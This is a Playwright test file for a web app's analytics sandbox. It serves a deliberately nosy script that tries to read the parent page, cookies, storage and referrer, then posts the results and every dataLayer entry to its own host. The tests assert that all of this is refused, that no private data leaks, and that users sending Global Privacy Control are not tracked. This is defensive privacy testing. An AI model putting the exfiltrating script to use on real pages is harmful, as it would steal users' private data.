import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { findFreePort, startDemoNode } from '../support/node.ts'
import { people } from '../support/people.ts'
import { settled } from '../support/screen.ts'
import { signIn } from '../support/signIn.ts'
import { expect, test } from '../support/test.ts'

/** A script that tries to read data other than the data that it receives. */
const curious = `
  const seen = {}
  const attempt = (name, look) => { try { seen[name] = String(look()) } catch (error) { seen[name] = 'refused' } }
  attempt('parent', () => parent.document.body.innerText)
  attempt('parentAddress', () => parent.location.href)
  attempt('cookies', () => document.cookie)
  attempt('storage', () => localStorage.length)
  attempt('address', () => location.pathname + location.search)
  attempt('referrer', () => document.referrer)
  const send = (body) => fetch(new URL('/take', document.currentScript?.src ?? source), { method: 'POST', mode: 'no-cors', body: JSON.stringify(body) })
  const source = document.currentScript.src
  send(seen)
  for (const entry of dataLayer) send(entry)
  const push = dataLayer.push
  dataLayer.push = (entry) => { send(entry); return push.call(dataLayer, entry) }`

let server: Server
let receivedRequests: { readonly body: string; readonly headers: string }[] = []
let address = ''
let end: () => Promise<void>

test.beforeAll(async () => {
  server = createServer(async (request, response) => {
    if (request.url === '/count.js') return response.setHeader('Content-Type', 'text/javascript').end(curious)
    let body = ''
    for await (const chunk of request) body += chunk
    receivedRequests.push({ body, headers: JSON.stringify(request.headers) })
    return response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const port = await findFreePort()
  address = `http://localhost:${port}`
  const { port: counterPort } = server.address() as AddressInfo
  end = await startDemoNode({ PORT: String(port), ANALYTICS_SCRIPT: `http://127.0.0.1:${counterPort}/count.js` })
})
test.afterAll(async () => {
  await end()
  server.close()
})

const listReportedPages = () =>
  receivedRequests.flatMap(({ body }) => (body.includes('page_view') ? [(JSON.parse(body) as { page: string }).page] : []))

test('visits are counted without a person, a record or a query, by a script that cannot see any screen', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: address, locale: 'en-CA' })
  const page = await context.newPage()
  await signIn(page, people.coordinator.email, '/participants?q=anderson')
  const first = page.getByRole('table').getByRole('link').first()
  const name = await first.innerText()
  const [, record = ''] = /\/participants\/([0-9a-f-]{36})/.exec(String(await first.getAttribute('href'))) ?? []
  await page.goto(`/crm/participants/${record}?tab=activity`)
  await settled(page)
  await expect.poll(listReportedPages).toEqual(expect.arrayContaining(['/participants', '/participants/:id']))

  const [report] = receivedRequests
    .filter(({ body }) => body.includes('"parent"'))
    .map(({ body }) => JSON.parse(body) as Record<string, string>)
  expect(report).toMatchObject({ parent: 'refused', parentAddress: 'refused', storage: 'refused', address: '/crm/analytics', referrer: '' })
  expect(report?.cookies).toBe('refused')
  const allRequests = receivedRequests.map(({ body, headers }) => body + headers).join('\n')
  for (const privateText of [record, name, 'anderson', 'tab=', people.coordinator.email, people.coordinator.name, 'Northlake'])
    expect(allRequests, privateText).not.toContain(privateText)
  for (const reportedPage of listReportedPages()) expect(reportedPage).not.toContain('?')
  await context.close()
})

test('users whose browser requests not to be tracked are not counted', async ({ browser }) => {
  receivedRequests = []
  const context = await browser.newContext({ baseURL: address, locale: 'en-CA' })
  await context.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }))
  const page = await context.newPage()
  await signIn(page, people.coordinator.email, '/participants')
  await expect(page.locator('iframe')).toHaveCount(0)
  expect(receivedRequests).toEqual([])
  await context.close()
})
